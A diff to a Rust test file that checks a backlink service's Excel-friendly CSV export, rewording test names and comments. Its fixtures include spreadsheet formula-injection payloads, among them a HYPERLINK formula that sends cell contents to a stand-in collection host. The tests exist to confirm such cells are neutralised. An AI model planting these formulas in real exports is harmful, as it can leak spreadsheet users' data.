@@ -1,4 +1,4 @@
-//! `format=excel`: what a spreadsheet opens as it is meant; and the names of files.
+//! `format=excel`: files that a spreadsheet opens without change of meaning; and the names of files.
 
 use backlinkd::api::{AuthPolicy, ENDPOINTS};
 use backlinkd::config::ApiConfig;
@@ -13,7 +13,7 @@ use super::web::{link, page, random};
 
 const MARK: &str = "\u{feff}";
 
-/// Texts that a spreadsheet would run, tear apart or show wrongly, and what is shown of them.
+/// Texts that a spreadsheet would execute, split or show wrongly, and their form in the file.
 const TEXTS: &[(&str, &str)] = &[
     (
         "=HYPERLINK(\"http://collect.example/?\"&A1,\"prize\")",
@@ -52,7 +52,7 @@ fn web() -> Vec<PageRecord> {
     vec![source]
 }
 
-/// The rows of an answer, which is a file with its mark, one line each.
+/// The rows of a response, which is a file with a byte order mark, one line each.
 #[track_caller]
 fn rows(reply: &Reply) -> Vec<Vec<String>> {
     assert_eq!(reply.status, 200);
@@ -65,7 +65,7 @@ fn rows(reply: &Reply) -> Vec<Vec<String>> {
 }
 
 #[test]
-fn cells_are_shown_and_neither_run_nor_torn() {
+fn cells_are_shown_and_neither_executed_nor_split() {
     let server = Server::start(&web());
     let list = "/backlinks?url=target.example&fields=linktarget,linktext,title,city,pos,sr&order[]=linktarget&format=excel";
     let found = rows(&server.client.get(list));
@@ -85,7 +85,7 @@ fn cells_are_shown_and_neither_run_nor_torn() {
     let export = "/exportbacklinks?url=target.example&fields=linktext&format=excel";
     let shown: Vec<Vec<String>> = TEXTS.iter().map(|(_, shown)| vec![(*shown).to_owned()]).collect();
     assert_eq!(rows(&server.client.get(export))[1..], shown);
-    // The plain form says what there is.
+    // The plain format shows the content.
     let plain = server.client.get(&list.replace("excel", "csv"));
     assert_eq!(plain.header("content-type"), Some("text/csv; charset=utf-8; header=present"));
     let plain = read_csv(&plain.text());
@@ -93,7 +93,7 @@ fn cells_are_shown_and_neither_run_nor_torn() {
 }
 
 #[test]
-fn every_list_and_export_has_the_form() {
+fn every_list_and_export_supports_the_format() {
     let mut records = random(85, 250);
     records.extend(web());
     let server = Server::start(&records);
@@ -125,7 +125,7 @@ fn every_list_and_export_has_the_form() {
 }
 
 #[test]
-fn no_accept_header_chooses_it_and_other_answers_refuse_it() {
+fn no_accept_header_selects_the_format_and_other_endpoints_refuse_it() {
     let server = Server::start(&web());
     for accept in ["text/csv", "text/csv; charset=utf-8", "application/vnd.ms-excel", "text/*", "excel"] {
         let accept = format!("Accept: {accept}");
@@ -146,7 +146,7 @@ fn no_accept_header_chooses_it_and_other_answers_refuse_it() {
 }
 
 #[test]
-fn it_is_streamed_tagged_and_compressed_as_csv_is() {
+fn the_format_is_streamed_tagged_and_compressed_like_csv() {
     let records: Vec<PageRecord> = (0..200)
         .map(|number| {
             let links = (0..20).map(|at| link(&format!("http://large.example/{at}"), "=1+1")).collect();
@@ -201,14 +201,14 @@ fn a_cell_too_long_for_a_sheet_is_cut_and_counted() {
 }
 
 #[test]
-fn files_are_named_whatever_is_asked_for() {
+fn files_have_a_name_for_every_subject() {
     let server = Server::start(&web());
     let name = |target: &str| {
         let reply = server.client.get(target);
         assert_eq!(reply.status, 200, "{target}");
         reply.header("content-disposition").map(str::to_owned)
     };
-    for endpoint in ENDPOINTS.iter().filter(|endpoint| endpoint.answer.is_tabular()) {
+    for endpoint in ENDPOINTS.iter().filter(|endpoint| endpoint.handler.is_tabular()) {
         let target = format!("/{}?{}", endpoint.name, required(endpoint.name, "example.com"));
         let expected = format!("attachment; filename=\"{}-example.com.csv\"", endpoint.name);
         assert_eq!(name(&format!("{target}&format=excel")), Some(expected.clone()));
